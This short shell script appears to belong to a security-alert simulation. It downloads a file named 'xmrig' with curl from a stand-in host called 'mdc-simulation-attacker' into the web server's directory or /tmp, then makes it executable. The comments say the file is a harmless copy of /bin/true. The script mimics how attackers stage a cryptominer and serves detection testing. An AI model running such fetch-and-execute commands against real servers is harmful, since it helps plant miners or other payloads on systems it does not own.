# Download xmrig (a harmless copy of /bin/true) from the attacker's web server into the web server's working
# directory and make it executable, as Microsoft's script does (/tmp when that directory is not writable).
[ -w . ] || cd /tmp || exit 1
curl -sO http://mdc-simulation-attacker/xmrig -f -m 20 || exit $?
chmod +x xmrig && echo "downloaded xmrig to $PWD/xmrig ($(wc -c < xmrig) bytes)"
